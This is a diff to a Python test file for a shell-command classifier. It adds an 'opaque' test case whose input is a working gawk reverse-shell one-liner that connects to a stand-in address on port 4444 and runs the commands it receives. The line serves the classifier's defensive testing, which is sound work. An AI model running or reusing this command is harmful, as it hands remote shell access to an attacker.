@@ -286,6 +286,11 @@ def test_command_families(cmd: str, expected: dict[str, tuple[str, ...]]) -> Non
 
 
 OPAQUE: list[tuple[str, str]] = [
+    # blanks or shell/awk syntax around a computed part: not a file name to glob (gawk's
+    # `print $0 |& s` read as a redirection)
+    ("awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.9/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; "
+     "if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
+     "written file built from a variable or substitution"),
     ('eval "$X"', "eval"),
     ("echo 'unbalanced", "tokenize"),
     ('echo "unbalanced', "tokenize"),
